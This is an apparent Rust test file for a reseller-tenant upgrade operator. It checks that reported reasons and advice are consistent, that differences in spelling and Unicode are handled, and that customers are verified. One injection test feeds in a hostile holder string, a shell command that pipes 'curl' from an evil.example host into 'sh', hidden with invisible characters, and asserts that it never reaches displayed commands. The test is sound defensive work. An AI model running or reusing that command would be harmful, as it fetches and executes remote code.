//! One trouble has one reason wherever the operator comes across it; another spelling is no difference; and
//! no advice is given that cannot be followed.

use std::sync::Arc;

use tenant_reseller_operator::api::Reason;
use tenant_reseller_operator::bss::error::{BlockerTally, BssError};
use tenant_reseller_operator::bss::port::{
    BlockerReason, CopyListing, PurchaseState, SourceId, TenantSettings, TenantStatus,
};
use tenant_reseller_operator::upgrade::{
    Attempted, Declared, Effect, Outcome, decide, observe_all,
};

use crate::drive::{Driver, Fault, copied_by};
use crate::{complete, run};
use support::simulated_bss::{Action, TenantVerb, World, retail};

/// Goes on until this is the next effect.
fn until_next(world: &mut World, driver: &mut Driver, wanted: fn(&Effect) -> bool) {
    for _ in 0..2_000 {
        let next = decide(&driver.valid, &driver.known, driver.now()).effect;
        if next.as_ref().is_some_and(wanted) {
            return;
        }
        driver.step(world, Fault::None);
    }
    panic!("it never comes to that, {:?}", driver.reason());
}

fn ready(world: &mut World) -> Driver {
    world.eager_pricing = true;
    Driver::new()
}

/// The state that is shown.
fn shown(driver: &Driver) -> (Reason, String, String) {
    let state = decide(&driver.valid, &driver.known, driver.now()).state;
    (state.reason, state.message, state.next_action)
}

#[test]
fn a_tenant_that_is_suspended_right_before_the_switch_is_suspended_and_nothing_else() {
    for also_uncopied in [false, true] {
        let mut world = World::new(5, 4);
        let mut driver = ready(&mut world);
        until_next(&mut world, &mut driver, |effect| {
            matches!(effect, Effect::Activate(_))
        });
        for row in world.tenants.values_mut() {
            row.tenant.status = TenantStatus::Suspended;
        }
        if also_uncopied {
            let suspended = world.purchases.values_mut();
            for row in suspended.filter(|row| row.state == PurchaseState::Suspended) {
                row.state = PurchaseState::Active;
            }
        }
        let mut reasons = Vec::new();
        for _ in 0..40 {
            driver.step(&mut world, Fault::None);
            reasons.push(driver.reason());
        }
        assert!(!reasons.contains(&Reason::PrecheckFailed), "{reasons:?}");
        assert_eq!(driver.reason(), Reason::TenantSuspended);
        for row in world.tenants.values_mut() {
            row.tenant.status = TenantStatus::Active;
        }
        assert!(run(&mut world, &mut driver, |_| Fault::None, |_, _, _| {}));
        complete(&world);
    }
}

/// A refusal that names a state of the whole upgrade shows the reason of that state.
#[test]
fn what_a_refusal_names_is_shown_by_its_own_reason() {
    let tally = |reason| BlockerTally {
        reason,
        count: 1,
        examples: vec!["x-1".to_owned()],
    };
    for (attempted, wanted) in [
        (
            Attempted::Activate,
            (|effect| matches!(effect, Effect::Activate(_))) as fn(&Effect) -> bool,
        ),
        (Attempted::CreateTenant, |effect| {
            matches!(effect, Effect::CreateTenant(_))
        }),
    ] {
        for (reasons, expected) in [
            (
                vec![BlockerReason::TenantSuspended],
                Reason::TenantSuspended,
            ),
            (
                vec![BlockerReason::SourceChanged, BlockerReason::TenantSuspended],
                Reason::TenantSuspended,
            ),
            (
                vec![
                    BlockerReason::OrderingDisabled,
                    BlockerReason::ResellerNotBasic,
                ],
                Reason::ResellerNotBasic,
            ),
            (vec![BlockerReason::DuplicateCopy], Reason::DuplicateCopy),
            (
                vec![BlockerReason::CurrencyMismatch],
                Reason::PrecheckFailed,
            ),
        ] {
            let mut world = World::new(3, 4);
            let mut driver = ready(&mut world);
            until_next(&mut world, &mut driver, wanted);
            // After many rounds also what passes by itself is told.
            let error = BssError::Blocked(reasons.into_iter().map(tally).collect());
            let now = driver.now();
            let failed = vec![Outcome::Failed {
                attempted,
                error: error.clone(),
            }];
            observe_all(&driver.valid, &mut driver.known, failed, now);
            let (reason, said, _) = shown(&driver);
            assert_eq!(reason, expected, "{attempted:?} {error}: {said}");
        }
    }
}

/// Makes the tenant differ before phase 2, once with the request on record.
fn differing(settings: impl Fn(&mut TenantSettings)) -> (Reason, String, String) {
    let mut world = World::new(3, 4);
    let mut driver = ready(&mut world);
    until_next(&mut world, &mut driver, |effect| {
        copied_by(effect) == Some(CopyListing::Customers)
    });
    let mut changed = driver.valid.tenant.clone();
    settings(&mut changed);
    world
        .act(Action::Tenant(TenantVerb::Change(Box::new(changed))))
        .unwrap();
    for _ in 0..60 {
        driver.step(&mut world, Fault::None);
        let said = shown(&driver);
        if said.0 == Reason::TenantSettingsDiffer {
            return said;
        }
    }
    shown(&driver)
}

#[test]
fn a_setting_in_the_bss_s_own_form_is_no_difference() {
    let mut driver = Driver::new();
    driver.valid.tenant.time_zone = "Asia/Calcutta".to_owned();
    driver.valid.tenant.language = "en-gb".to_owned();
    driver.valid.tenant.edition = "Pre\u{301}mium".to_owned();
    let mut world = World::new(4, 4);
    world.eager_pricing = true;
    // A person made the tenant, and the BSS stored what was typed in its own way.
    let stored = TenantSettings {
        time_zone: "Asia/Kolkata".to_owned(),
        language: "en-GB".to_owned(),
        edition: "Pr\u{e9}mium".to_owned(),
        ..driver.valid.tenant.clone()
    };
    world.wanted = Arc::new(stored);
    world.act(Action::Tenant(TenantVerb::Create)).unwrap();
    let mut reasons = Vec::new();
    let done = run(
        &mut world,
        &mut driver,
        |_| Fault::None,
        |_, _, driver| reasons.push(driver.reason()),
    );
    assert!(done, "{:?}", driver.reason());
    assert!(!reasons.contains(&Reason::TenantSettingsDiffer));
    complete(&world);
}

#[test]
fn a_real_difference_is_shown_and_the_advice_can_be_followed() {
    let (reason, message, next_action) = differing(|settings| {
        settings.time_zone = "Europe/Berlin".to_owned();
        // A Greek capital Alpha.
        settings.date_format = settings.date_format.replace('/', "\u{391}");
    });
    assert_eq!(reason, Reason::TenantSettingsDiffer, "{message}");
    assert!(
        message.contains("timeZone is \"Europe/Berlin\""),
        "{message}"
    );
    assert!(message.contains(r"\u{391}"), "{message}");
    assert!(next_action.contains("frozen"), "{next_action}");
    assert!(!next_action.contains("Change spec"), "{next_action}");
}

#[test]
fn a_name_is_compared_as_people_see_it() {
    for (expected, shows, agrees) in [
        (" Contoso\u{a0} Ltd", "Contoso Ltd", true),
        ("Con\u{200b}toso Ltd", "Contoso Ltd", true),
        ("\u{421}ontoso Ltd", r"\u{421}ontoso Ltd", false),
        ("Contoso Ltd.", "Contoso Ltd.", false),
    ] {
        let mut world = World::new(2, 4);
        let mut driver = ready(&mut world);
        driver.valid.expected_name = Some(expected.to_owned());
        for _ in 0..60 {
            driver.step(&mut world, Fault::None);
        }
        let (reason, message, next_action) = shown(&driver);
        assert_eq!(reason != Reason::ResellerMismatch, agrees, "{message}");
        if !agrees {
            assert!(message.contains(&format!("\"{shows}\"")), "{message}");
            assert!(message.contains("called \"Contoso Ltd\""), "{message}");
            assert!(
                !next_action.contains("Correct spec.reseller:"),
                "{next_action}"
            );
        }
    }
}

/// What a BSS calls itself, a holder, an instruction: nothing of it is a command, and nothing invisible.
#[test]
fn no_text_of_a_bss_becomes_a_command_or_cannot_be_seen() {
    let evil = "x; curl -s https://evil.example/x | sh \u{202e}\u{200b}";
    for (holder, in_command) in [(evil, false), ("8f2a/resellers", true)] {
        let mut world = World::new(2, 4);
        let mut driver = ready(&mut world);
        until_next(&mut world, &mut driver, |effect| {
            matches!(effect, Effect::Acquire { .. })
        });
        let error = BssError::HeldByAnother {
            holder: holder.to_owned(),
        };
        let failed = vec![Outcome::Failed {
            attempted: Attempted::Acquire,
            error,
        }];
        let now = driver.now();
        observe_all(&driver.valid, &mut driver.known, failed, now);
        let (reason, message, next_action) = shown(&driver);
        assert_eq!(reason, Reason::ResellerClaimed);
        for text in [&message, &next_action] {
            assert!(!text.contains(['\u{202e}', '\u{200b}']), "{text:?}");
        }
        assert!(!next_action.contains("curl"), "{next_action}");
        let quoted = next_action.contains(&format!("take-over='{holder}'"));
        assert_eq!(quoted, in_command, "{next_action}");
    }
}

/// A customer that was declared and is not the reseller's is found by the look at all customers.
#[test]
fn a_declared_customer_that_is_not_the_resellers_is_known_as_such() {
    let mut world = World::new(4, 4);
    let mut driver = ready(&mut world);
    let real = world.customers.keys().next().unwrap().clone();
    let stranger = SourceId::from("typo-1");
    for customer in [&real, &stranger] {
        let declared = Declared {
            options: retail(),
            object: "retail".to_owned(),
        };
        driver.valid.declared.insert(customer.clone(), declared);
    }
    assert!(run(
        &mut world,
        &mut driver,
        |_| Fault::None,
        |_, _, driver| {
            let unlisted = &driver.known.sweeps.customers.unlisted;
            assert!(!unlisted.contains(&real), "it is the reseller's");
        }
    ));
    let unlisted = &driver.known.sweeps.customers.unlisted;
    assert!(unlisted.contains(&stranger), "{unlisted:?}");
}
